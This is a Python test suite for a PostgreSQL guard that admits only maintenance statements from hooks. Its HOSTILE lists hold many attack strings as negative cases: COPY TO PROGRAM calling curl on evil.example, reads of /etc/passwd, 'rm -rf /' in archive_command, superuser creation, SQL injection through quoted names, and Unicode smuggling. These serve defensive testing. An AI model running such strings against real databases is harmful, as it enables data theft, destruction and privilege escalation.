from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pglast import ast
from pglast.parser import parse_sql, scan

from hakiri_dagster.errors import UnsafeSql
from hakiri_dagster.security.sql_guard import PROBES, judge, judge_probe_template, judge_template, with_table

HOSTILE: dict[str, tuple[str, ...]] = {
    "is not among the statements of a hook": (
        "SELECT 1",
        "(SELECT 1)",
        "TABLE shop.orders",
        "VALUES (pg_sleep(10))",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
        "SELECT set_config('role', 'postgres', false)",
        "SELECT * INTO stolen FROM orders",
        "INSERT INTO orders VALUES (1)",
        "UPDATE orders SET total = 0",
        "DELETE FROM orders",
        "MERGE INTO orders USING new_orders ON true WHEN MATCHED THEN DELETE",
        "TRUNCATE orders",
        "CREATE TABLE t (a int)",
        "CREATE TABLE t AS SELECT 1",
        "CREATE MATERIALIZED VIEW v AS SELECT 1",
        "CREATE INDEX ON orders (id)",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE EXTENSION dblink",
        "CREATE USER intruder SUPERUSER PASSWORD 'x'",
        "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()",
        "CREATE STATISTICS s ON a, b FROM orders",
        "ALTER TABLE orders DISABLE TRIGGER ALL",
        "ALTER SYSTEM SET archive_command = 'rm -rf /'",
        "ALTER ROLE loader SET search_path = evil",
        "DROP TABLE orders",
        "DROP OWNED BY CURRENT_USER",
        "REASSIGN OWNED BY loader TO intruder",
        "GRANT ALL ON orders TO PUBLIC",
        "REVOKE ALL ON orders FROM loader",
        "COMMENT ON TABLE orders IS 'x'",
        "SECURITY LABEL ON TABLE orders IS 'x'",
        "DO 'BEGIN DELETE FROM orders; END'",
        "CALL drop_everything()",
        "PREPARE p AS DELETE FROM orders",
        "EXECUTE p",
        "DEALLOCATE ALL",
        "DECLARE c CURSOR FOR SELECT 1",
        "FETCH ALL FROM c",
        "COPY orders TO PROGRAM 'curl https://evil.example'",
        "COPY (SELECT 1) TO '/tmp/x'",
        "LISTEN events",
        "NOTIFY events, 'x'",
        "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
        "SAVEPOINT s",
        "COMMIT PREPARED 'x'",
        "CHECKPOINT",
        "LOAD 'evil.so'",
        "DISCARD ALL",
        "SHOW password_encryption",
        "SET CONSTRAINTS ALL DEFERRED",
        "IMPORT FOREIGN SCHEMA s FROM SERVER evil INTO public",
    ),
    "more than one statement": (
        "ANALYZE; DROP TABLE orders",
        "ANALYZE;;",
        "; ANALYZE",
        "SET work_mem = '1MB'; SET ROLE postgres;",
        "EXPLAIN SELECT 1; COMMIT; DELETE FROM orders",
    ),
    "holds a comment": (
        "ANALYZE -- all of it",
        "ANALYZE orders /* the big one */",
        "/**/ ANALYZE",
        "AN/**/ALYZE",
        "ANALYZE /* /* nested */ */ orders",
        "ANALYZE orders --; DROP TABLE orders",
        "EXPLAIN SELECT 1+--\n1",
    ),
    "is not a plain constant": (
        "SET search_path = 'a'\n-- a comment that no token shows\n'b'",
        r"SET search_path = 'a\', '; DROP TABLE orders; SELECT '''",
        r"SET search_path = E'\x65vil'",
        r"SET search_path = U&'\0065vil'",
        "SET search_path = U&'!0065vil' UESCAPE '!'",
        "EXPLAIN SELECT x'41'",
        "EXPLAIN SELECT b'01'",
    ),
    "is not a plain name or constant": (
        "SET search_path = $$evil$$",
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "SET search_path = $tag$a; DROP TABLE orders$tag$",
        r'ANALYZE U&"\006Frders"',
        "EXPLAIN SELECT $1",
    ),
    "the invisible character": (
        "ANALYZE orders\0; DROP TABLE orders",
        "ANALYZE\u00a0orders",
        "ANALYZE\u200borders",
        "\ufeffANALYZE",
        'ANALYZE "orders\u202e"',
        "ANALYZE orders\u2028DROP",
        "ANALYZE orders\x1b[2K",
        "ANALYZE \ud800",
        "ANALYZE orders\f",
    ),
    "is not ASCII": (
        "ANALYZE ｏｒｄｅｒｓ",  # noqa: RUF001
        "ANALYZE оrders",  # noqa: RUF001
        "EXPLAIN SELECT lоwer('x')",  # noqa: RUF001
        "ANALYZE orders； DROP TABLE orders",  # noqa: RUF001
    ),
    "cannot (read|parse) it": (
        r"\! rm -rf /",
        r"ANALYZE \gexec",
        r"\copy orders from '/etc/passwd'",
        "ANALYZE :table",
        "ANALYZE 'orders'",
        "ANALYZE {schema}",
        'ANALYZE "orders',
        "ANALYZE /* orders",
        "SET search_path = 'orders",
        "VACUUM (ANALYZE orders",
        "CLUSTER orders; ' OR 1=1",
        "REFRESH MATERIALIZED VIEW daily AS SELECT 1",
        "REINDEX TABLE (SELECT 'orders')",
        "SET work_mem = (SELECT '1MB')",
        "SET work_mem = current_setting('x')",
        "EXPLAIN VACUUM",
        "EXPLAIN EXPLAIN SELECT 1",
    ),
    "holds no statement": ("", "   ", ";"),
    "longer than": ("EXPLAIN SELECT 1" + " + 1" * 100_000,),
    "only SET name = value": (
        "RESET work_mem",
        "RESET ALL",
        "RESET ROLE",
        "RESET SESSION AUTHORIZATION",
        "SET work_mem FROM CURRENT",
        "SET TRANSACTION READ WRITE",
        "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
        "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    ),
    "is not a setting that a hook may set": (
        "SET ROLE postgres",
        "SET LOCAL ROLE postgres",
        "SET ROLE NONE",
        'SET "role" = postgres',
        "SET SESSION AUTHORIZATION postgres",
        "SET session_authorization = 'postgres'",
        "SET session_replication_role = replica",
        "SET row_security = off",
        "SET local_preload_libraries = 'evil'",
        "SET session_preload_libraries = 'evil'",
        "SET dynamic_library_path = '/tmp'",
        "SET default_tablespace = evil",
        "SET default_transaction_read_only = off",
        "SET transaction_isolation = 'serializable'",
        "SET synchronous_commit = off",
        "SET standard_conforming_strings = off",
        "SET check_function_bodies = off",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'GBK'",
        "SET TIME ZONE 'UTC'",
        "SET XML OPTION DOCUMENT",
        "SET log_statement = 'none'",
        "SET allow_system_table_mods = on",
        "SET ignore_checksum_failure = on",
        "SET app.tenant = 'other'",
        "SET enable_everything.role = 'postgres'",
        'SET "wor\N{KELVIN SIGN}_mem" = 1',
        "SET vacuum_cost_limit = 1",
    ),
    "pg_catalog in the first place": (
        "SET search_path = evil, pg_catalog",
        "SET LOCAL search_path TO 'evil', \"pg_catalog\"",
        'SET search_path = "$user", public, pg_catalog',
    ),
    "REINDEX may not move": ("REINDEX (TABLESPACE elsewhere) TABLE orders",),
    "EXPLAIN with ANALYZE": (
        "EXPLAIN ANALYZE SELECT 1",
        "EXPLAIN (ANALYZE) SELECT 1",
        "EXPLAIN (VERBOSE, ANALYZE true) SELECT 1",
        "EXPLAIN (ANALYZE off, ANALYZE on) SELECT 1",
        'EXPLAIN ("analyze") SELECT 1',
        'EXPLAIN ("ANALYZE") SELECT 1',
        "EXPLAIN ANALYSE VERBOSE SELECT 1",
    ),
    "EXPLAIN with SERIALIZE": ("EXPLAIN (SERIALIZE text) SELECT 1",),
    "EXPLAIN with EXTENSION_OPTION": ("EXPLAIN (extension_option) SELECT 1",),
    "EXPLAIN is allowed of a SELECT only": (
        "EXPLAIN DELETE FROM orders",
        "EXPLAIN INSERT INTO orders SELECT 1",
        "EXPLAIN UPDATE orders SET total = 0",
        "EXPLAIN MERGE INTO orders USING n ON true WHEN MATCHED THEN DELETE",
        "EXPLAIN CREATE TABLE t AS SELECT 1",
        "EXPLAIN CREATE MATERIALIZED VIEW v AS SELECT 1",
        "EXPLAIN EXECUTE p",
        "EXPLAIN DECLARE c CURSOR FOR SELECT 1",
        "EXPLAIN REFRESH MATERIALIZED VIEW daily",
    ),
    "would change rows": (
        "EXPLAIN WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
        "EXPLAIN WITH x AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM x",
        "EXPLAIN WITH x AS (UPDATE orders SET a = 1 RETURNING *) SELECT * FROM x",
        "EXPLAIN WITH x AS (MERGE INTO orders o USING n ON true WHEN MATCHED THEN DELETE RETURNING o.id) TABLE x",
        "EXPLAIN SELECT (WITH x AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM x)",
    ),
    "INTO would make a table": ("EXPLAIN SELECT * INTO stolen FROM orders",),
    "would lock rows": (
        "EXPLAIN SELECT * FROM orders FOR UPDATE",
        "EXPLAIN SELECT * FROM (SELECT * FROM orders FOR KEY SHARE SKIP LOCKED) AS o",
    ),
    "the function .* is not among": (
        "EXPLAIN SELECT pg_read_file('/etc/passwd')",
        "EXPLAIN SELECT pg_catalog.pg_sleep(1000)",
        "EXPLAIN SELECT dblink_exec('host=evil', 'DROP TABLE t')",
        "EXPLAIN SELECT evil.lower('x')",
        "EXPLAIN SELECT \"LOWER\"('x')",
        "EXPLAIN SELECT query_to_xml('DELETE FROM orders', true, false, '')",
        "EXPLAIN SELECT set_config('role', 'postgres', true)",
        "EXPLAIN SELECT 1 FROM orders WHERE lo_import('/etc/passwd') > 0",
        "EXPLAIN SELECT 1 FROM orders ORDER BY pg_terminate_backend(1)",
        "EXPLAIN SELECT 1 LIMIT nextval('orders_id_seq')",
        "EXPLAIN SELECT count(*) FILTER (WHERE pg_advisory_lock(1) IS NULL) FROM orders",
        "EXPLAIN SELECT sum(a) OVER (ORDER BY evil(a)) FROM orders",
        "EXPLAIN SELECT string_agg(a, ',' ORDER BY evil(a)) FROM orders",
        "EXPLAIN SELECT CASE WHEN evil() THEN 1 END",
        "EXPLAIN VALUES (1), (evil())",
        "EXPLAIN SELECT 1 UNION SELECT 2 UNION SELECT evil()",
        "EXPLAIN SELECT 1 FROM a JOIN b ON evil(a.id)",
        "EXPLAIN SELECT a FROM orders GROUP BY ROLLUP (a, evil(b))",
        "EXPLAIN SELECT lower(upper(repeat('x', 1000000000)))",
        "EXPLAIN SELECT database_to_xml(true, true, '')",
    ),
    "calls a function in FROM": (
        "EXPLAIN SELECT * FROM pg_ls_dir('/')",
        "EXPLAIN SELECT * FROM ROWS FROM (evil(), evil())",
        "EXPLAIN SELECT * FROM orders, LATERAL lower(orders.name)",
    ),
    "TABLESAMPLE calls a function": ("EXPLAIN SELECT * FROM orders TABLESAMPLE evil.method (1)",),
    "the type .* is not among": (
        "EXPLAIN SELECT 'x'::evil.type",
        "EXPLAIN SELECT CAST('x' AS evil)",
        "EXPLAIN SELECT evil 'x'",
        "EXPLAIN SELECT 'orders'::regclass",
        "EXPLAIN SELECT '<a/>'::xml",
    ),
    "the operator .* is not among": (
        "EXPLAIN SELECT 1 OPERATOR(evil.+) 1",
        "EXPLAIN SELECT 1 OPERATOR(evil.=) ANY (SELECT 1)",
        "EXPLAIN SELECT 1 OPERATOR(evil.=) ALL (ARRAY[1])",
        "EXPLAIN SELECT a FROM orders ORDER BY a USING OPERATOR(evil.<)",
        "EXPLAIN SELECT 1 <-> 2",
        "EXPLAIN SELECT @@ 'x'",
    ),
    "is not written as schema.table": (
        "EXPLAIN SELECT * FROM orders",
        "EXPLAIN TABLE orders",
        "EXPLAIN SELECT * FROM other.shop.orders",
        "EXPLAIN SELECT 1 FROM shop.orders WHERE EXISTS (SELECT FROM items)",
        "EXPLAIN WITH o AS (SELECT 1 FROM items) SELECT * FROM o",
    ),
    "it holds what PostgreSQL calls": (
        "EXPLAIN SELECT (ROW(1)::orders).evil",
        "EXPLAIN SELECT ('(1)').evil",
        "EXPLAIN SELECT * FROM XMLTABLE('/' PASSING '<a/>' COLUMNS a int)",
        "EXPLAIN SELECT XMLPARSE(DOCUMENT '<a/>')",
        "EXPLAIN SELECT JSON_VALUE('{}', '$.a')",
        "EXPLAIN SELECT a FROM (WITH RECURSIVE t AS (SELECT 1) CYCLE a SET c USING p SELECT * FROM t) AS x",
    ),
}

GOOD = (
    "ANALYZE",
    "analyze;",
    "  ANALYZE\n shop.orders ;\n",
    "ANALYZE shop.orders (id, total), shop.items",
    'ANALYZE "Größe"."x; DROP TABLE y; --"',
    "ANALYZE (VERBOSE, SKIP_LOCKED) orders",
    "VACUUM",
    "VACUUM (ANALYZE, PARALLEL 2, INDEX_CLEANUP off) shop.orders",
    "VACUUM FULL VERBOSE shop.orders",
    "VACUUM FREEZE orders",
    "CLUSTER",
    "CLUSTER orders USING orders_pkey",
    "CLUSTER (VERBOSE) orders",
    "REINDEX TABLE shop.orders",
    "REINDEX (VERBOSE) INDEX CONCURRENTLY orders_pkey",
    "REINDEX SCHEMA shop",
    "REFRESH MATERIALIZED VIEW shop.daily",
    "REFRESH MATERIALIZED VIEW CONCURRENTLY shop.daily WITH DATA",
    "SET work_mem = '256MB'",
    "SET LOCAL maintenance_work_mem TO '1GB'",
    "SET SESSION statement_timeout = 60000",
    "SET lock_timeout TO DEFAULT",
    "SET enable_seqscan = off",
    "SET random_page_cost = 1.1",
    "SET search_path = shop, public",
    "SET search_path TO 'Größe', \"$user\"",
    "SET search_path = pg_catalog, shop",
    "SET search_path = ''",
    "SET SCHEMA 'shop'",
    "SET jit = off",
    "EXPLAIN SELECT * FROM shop.orders",
    "EXPLAIN VERBOSE SELECT 1",
    "EXPLAIN (FORMAT json, COSTS off, SETTINGS) SELECT count(*) FROM shop.orders WHERE total > 10.5",
    "EXPLAIN TABLE shop.orders",
    "EXPLAIN WITH o AS (SELECT a, sum(b) AS b FROM s.t GROUP BY a HAVING sum(b) > 0) "
    "SELECT o.a, row_number() OVER (PARTITION BY o.a ORDER BY o.b DESC) FROM o LEFT JOIN s.items i ON i.a = o.a",
    "EXPLAIN SELECT a FROM s.t WHERE d BETWEEN date '2024-01-01' AND now() - interval '1 day' AND s LIKE 'x;--%'",
    "EXPLAIN SELECT extract(year FROM d), substring(s FROM 2), trim(s), coalesce(a, 0), d::date, a IN (1, 2) FROM s.t",
    "EXPLAIN SELECT CASE WHEN a IS NULL THEN 'it''s' ELSE upper(s) END FROM s.t WHERE EXISTS (SELECT FROM s.u) LIMIT 5",
    "EXPLAIN SELECT a FROM s.t WHERE j ->> 'k' = ANY (ARRAY['x', 'y']) UNION ALL (VALUES (1)) ORDER BY 1 NULLS LAST",
    "EXPLAIN SELECT a FROM s.t WHERE b IS DISTINCT FROM 1 AND NOT c AND s SIMILAR TO 'a%' COLLATE \"C\"",
)

ALLOWED_STATEMENTS = (
    ast.VacuumStmt,
    ast.ClusterStmt,
    ast.ReindexStmt,
    ast.RefreshMatViewStmt,
    ast.ExplainStmt,
    ast.VariableSetStmt,
)

hostile = pytest.mark.parametrize(
    ("reason", "text"), [(reason, text) for reason, texts in HOSTILE.items() for text in texts]
)


@hostile
def test_a_hostile_statement_is_refused_for_what_is_wrong_with_it(reason: str, text: str) -> None:
    with pytest.raises(UnsafeSql, match=reason) as refused:
        judge(text)
    assert refused.value.kind == "permanent"
    assert refused.value.hint


@pytest.mark.parametrize("text", GOOD)
def test_maintenance_is_allowed(text: str) -> None:
    assert judge(text).text == text.strip().removesuffix(";").strip()


def test_the_hint_says_what_a_hook_may_hold() -> None:
    with pytest.raises(UnsafeSql) as refused:
        judge("DROP TABLE orders")
    assert "DROP is not among" in refused.value.what
    for word in ("ANALYZE", "VACUUM", "CLUSTER", "REINDEX", "REFRESH MATERIALIZED VIEW", "EXPLAIN", "SET"):
        assert word in str(refused.value.hint)


@pytest.mark.parametrize(
    "text", ["SELEC 1", "SELECT 1; SELECT 2", ";", "SELECT 1 -- one", "SELECT 'x{table}'", "DROP TABLE t", "SELECT $1"]
)
def test_what_a_validator_may_not_ask_is_answered_with_what_it_may(text: str) -> None:
    with pytest.raises(UnsafeSql) as refused:
        judge_probe_template(text)
    assert refused.value.hint == PROBES


@pytest.mark.parametrize("text", ["SET work_mem = '1GB'", "SET LOCAL jit TO off", "SET search_path = raw, public"])
def test_a_setting_is_told_from_what_it_is_set_for(text: str) -> None:
    assert judge(text).sets


@pytest.mark.parametrize("text", ["ANALYZE orders", "VACUUM", "REFRESH MATERIALIZED VIEW daily", "EXPLAIN SELECT 1"])
def test_all_else_is_no_setting(text: str) -> None:
    assert not judge(text).sets


def test_the_relations_of_an_harmless_select_are_told() -> None:
    judged = judge('EXPLAIN WITH o AS (SELECT 1 FROM shop.a) SELECT (SELECT 1 FROM "B".b) FROM o JOIN shop.c ON true')
    assert judged.explains == {("shop", "a"), ("B", "b"), ("shop", "c")}
    assert judge("EXPLAIN SELECT 1").explains == frozenset()
    assert judge("ANALYZE shop.orders").explains is None


@pytest.mark.parametrize(
    "template",
    [
        "ANALYZE {table}",
        "VACUUM (ANALYZE) {table};",
        "REINDEX TABLE {table}",
        "EXPLAIN SELECT a.x FROM {table} a JOIN {table} AS b ON a.id = b.id",
        "CLUSTER",
    ],
)
def test_a_template_is_judged_before_any_table_is_known(template: str) -> None:
    judge_template(template)


@pytest.mark.parametrize(
    "template",
    [
        "DROP TABLE {table}",
        "ANALYZE {table}; DELETE FROM {table}",
        "ANALYZE -- {table}",
        "EXPLAIN ANALYZE SELECT * FROM {table}",
        "ANALYZE {TABLE}",
        "ANALYZE {table",
    ],
)
def test_a_hostile_template_is_refused(template: str) -> None:
    with pytest.raises(UnsafeSql):
        judge_template(template)


@pytest.mark.parametrize(
    "template",
    [
        "SET search_path = '{table}'",
        "EXPLAIN SELECT 'a {table} b'",
        "SET search_path = $${table}$$",
        "ANALYZE U&{table}",
        "ANALYZE {table}{table}",
        'ANALYZE "x"{table}',
        'ANALYZE {table}"x"',
        "ANALYZE /* {table} */",
    ],
)
def test_a_table_inside_of_something_else_is_refused(template: str) -> None:
    with pytest.raises(UnsafeSql):
        with_table(template, '"shop"."orders"')


HOSTILE_NAMES = (
    '"x; DROP TABLE orders; --"',
    '"x""; DROP TABLE orders; --"',
    '"s"."/*"',
    '"s"."*/ DROP"',
    '"s"."\'; DROP TABLE orders; \'"',
    '"s"."$$"',
    '"s"."{table}"',
    '"s"."\\"',
    '"a"".""b"',
    '"ANALYZE"',
)


@pytest.mark.parametrize("relation", HOSTILE_NAMES)
def test_a_table_with_a_hostile_name_is_a_name_and_nothing_else(relation: str) -> None:
    judged = judge(with_table("VACUUM {table}", relation))
    (raw,) = parse_sql(judged.text)
    assert isinstance(raw.stmt, ast.VacuumStmt)
    (target,) = raw.stmt.rels
    schema, name = target.relation.schemaname, target.relation.relname
    quoted = [part.replace('"', '""') for part in (schema, name) if part is not None]
    assert '"' + '"."'.join(quoted) + '"' == relation


@pytest.mark.parametrize(
    "relation", ["orders", "", '""', '"a', '"a"; DROP TABLE b; "c"', '"a"b"', '"a"."b"."c"."d"', '"a" "b"', 'U&"a"']
)
def test_a_relation_that_is_not_quoted_is_not_put_in(relation: str) -> None:
    with pytest.raises(UnsafeSql, match="not the quoted name"):
        with_table("ANALYZE {table}", relation)


def test_a_name_of_invisible_characters_is_refused() -> None:
    with pytest.raises(UnsafeSql, match=r"U\+200B"):
        with_table("ANALYZE {table}", '"orders\u200b"')


def test_the_parser_is_not_imported_before_a_hook_is_judged() -> None:
    program = "import sys; import hakiri_dagster.security.sql_guard; sys.exit('pglast' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", program], check=False).returncode == 0


WORDS = """ANALYZE VACUUM CLUSTER REINDEX TABLE INDEX DATABASE CONCURRENTLY REFRESH MATERIALIZED VIEW EXPLAIN SELECT SET
LOCAL ROLE SESSION AUTHORIZATION work_mem search_path pg_catalog role = TO ( ) , . * ; -- /* */ ' '' " $$ \\ U& E '1MB'
"x" x 1 :: + INTO FROM WHERE FOR UPDATE WITH AS DELETE RETURNING DROP RESET ALL DO CALL lower pg_sleep {table}"""
statements = st.one_of(
    st.lists(st.sampled_from([*WORDS.split(), "\n", "\0", "\u200b", "é"]), max_size=12).map(" ".join),
    st.builds(
        lambda text, place, piece: text[: place % (len(text) + 1)] + piece + text[place % (len(text) + 1) :],
        st.sampled_from(GOOD + HOSTILE["would change rows"]),
        st.integers(min_value=0, max_value=400),
        st.sampled_from([*WORDS.split(), "; DROP TABLE orders", "\n", " "]) | st.text(max_size=3),
    ),
    st.text(max_size=30),
)


@given(statements)
def test_whatever_is_allowed_is_exactly_one_statement_of_an_allowed_kind(text: str) -> None:
    try:
        judged = judge(text)
    except UnsafeSql:
        return
    for allowed in (text, judged.text):
        (raw,) = parse_sql(allowed)
        assert isinstance(raw.stmt, ALLOWED_STATEMENTS)
        assert not any("COMMENT" in token.name for token in scan(allowed))
    assert judge(judged.text) == judged


@given(
    st.tuples(*[st.text(st.characters(exclude_categories=("C", "Zl", "Zp", "Zs")), min_size=1, max_size=20)] * 2),
    st.sampled_from(["ANALYZE {table}", "VACUUM (FULL) {table};", "EXPLAIN SELECT * FROM {table} AS t, {table} u"]),
)
def test_no_name_of_a_table_changes_the_verdict(names: tuple[str, str], template: str) -> None:
    schema, table = (name.replace('"', '""') for name in names)
    judged = judge(with_table(template, f'"{schema}"."{table}"'))
    assert judged.sets == judge_template(template).sets
